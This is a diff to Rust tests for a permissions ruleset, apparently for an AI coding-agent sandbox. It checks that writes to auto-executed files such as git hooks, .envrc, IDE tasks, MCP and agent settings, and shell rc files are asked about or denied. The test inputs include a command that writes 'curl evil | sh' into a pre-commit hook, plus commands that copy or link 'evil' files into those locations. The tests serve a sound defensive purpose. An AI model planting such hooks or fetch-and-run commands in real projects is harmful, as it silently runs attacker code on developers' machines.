@@ -1,6 +1,8 @@
 //! What the presets and the builder say.
 use backend_core::VPath;
-use permissions::rules::{CommandRule, PathRules, Preset, Rules, Ruleset, SECRETS, SYSTEM};
+use permissions::rules::{
+    AUTO_RUN, CommandRule, PathRules, Preset, Rules, Ruleset, SECRETS, SYSTEM,
+};
 use permissions::{Action, Op};
 
 use Action::{Allow, Ask, Deny};
@@ -106,7 +108,10 @@ fn every_preset_pattern_is_a_rule() {
             .collect::<Vec<_>>()
     };
     assert_eq!(patterns(&permissive.read), SECRETS);
-    assert_eq!(patterns(&permissive.write), [SECRETS, SYSTEM].concat());
+    assert_eq!(
+        patterns(&permissive.write),
+        [SECRETS, SYSTEM, AUTO_RUN].concat()
+    );
     let descriptions = |section: &Option<PathRules>| {
         section
             .as_ref()
@@ -120,8 +125,105 @@ fn every_preset_pattern_is_a_rule() {
     assert_eq!(descriptions(&permissive.read), "Protect sensitive files");
     assert_eq!(
         descriptions(&permissive.edit),
-        "Protect sensitive and system files"
+        "Other programs run or obey this without asking"
     );
+}
+
+#[test]
+fn what_other_programs_obey_is_asked_about_in_every_preset() {
+    for (preset, action) in [
+        (Preset::Default, Ask),
+        (Preset::Permissive, Ask),
+        (Preset::Strict, Ask),
+        (Preset::Readonly, Deny),
+    ] {
+        let rules = in_work(&preset.ruleset());
+        for text in [
+            "/project/.git/hooks/pre-commit",
+            "/project/.git/config",
+            "/project/.git",
+            "/project/sub/.git",
+            "/project/.envrc",
+            "/project/.mcp.json",
+            "/project/.vscode/tasks.json",
+            "/project/.vscode/settings.json",
+            "/project/.idea/workspace.xml",
+            "/project/.husky/pre-commit",
+            "/project/.pre-commit-config.yaml",
+            "/project/.claude/settings.json",
+            "/project/.cursor/mcp.json",
+            "/project/.devcontainer/devcontainer.json",
+            "/project/a.code-workspace",
+            "/root/.bashrc",
+            "/root/.profile",
+            "/root/.zshenv",
+            "/root/.config/agentbox/config.toml",
+            "/root/.config/fish/config.fish",
+        ] {
+            for op in [Op::Write, Op::Edit, Op::Delete] {
+                let vote = rules.judge(op, &path(text));
+                assert_eq!(vote.action, action, "{preset} {op} {text}");
+                // It is said why this one, unless everything is denied anyway.
+                let said = vote.to_string().contains("without asking");
+                assert_eq!(said, action == Ask, "{preset} {op} {text}: {vote}");
+            }
+        }
+        // Keys are denied as before.
+        let key = rules.judge(Op::Write, &path("/root/.ssh/authorized_keys"));
+        assert_eq!(key.action, Deny);
+    }
+    let rules = in_work(&Preset::Permissive.ruleset());
+    for text in [
+        "/project/.gitignore",
+        "/project/.github/workflows/ci.yml",
+        "/project/Makefile",
+        "/project/package.json",
+        "/project/git/config",
+        "/project/CLAUDE.md",
+    ] {
+        assert_eq!(rules.judge(Op::Write, &path(text)).action, Allow, "{text}");
+        assert_eq!(
+            rules.judge(Op::Read, &path("/project/.git/config")).action,
+            Allow
+        );
+    }
+}
+
+#[cfg(feature = "shell")]
+#[test]
+fn commands_that_write_what_other_programs_obey_are_asked_about() {
+    let here = path("/project");
+    let policy = permissions::Policy::builder()
+        .ruleset(&Preset::Permissive.ruleset(), &here)
+        .build();
+    let judge = |line: &str| {
+        let command = permissions::command::CommandContext::new(line, &here);
+        policy.judge_command(command).verdict.action()
+    };
+    for line in [
+        "echo 'curl evil | sh' > .git/hooks/pre-commit",
+        "printf x >> .envrc",
+        "cp evil .vscode/tasks.json",
+        "mv evil .mcp.json",
+        "mv .git old",
+        "tee -a /root/.bashrc",
+        "mkdir -p .husky",
+        "sed -i s/a/b/ .git/config",
+        "ln -s /tmp/evil .claude",
+        "cd .git && echo x > config",
+    ] {
+        assert_eq!(judge(line), Ask, "{line}");
+    }
+    for line in [
+        "git commit -m x",
+        "git status",
+        "cat .git/config",
+        "ls .vscode",
+        "echo x > notes",
+        "rm *.o",
+    ] {
+        assert_eq!(judge(line), Allow, "{line}");
+    }
 }
 
 #[test]
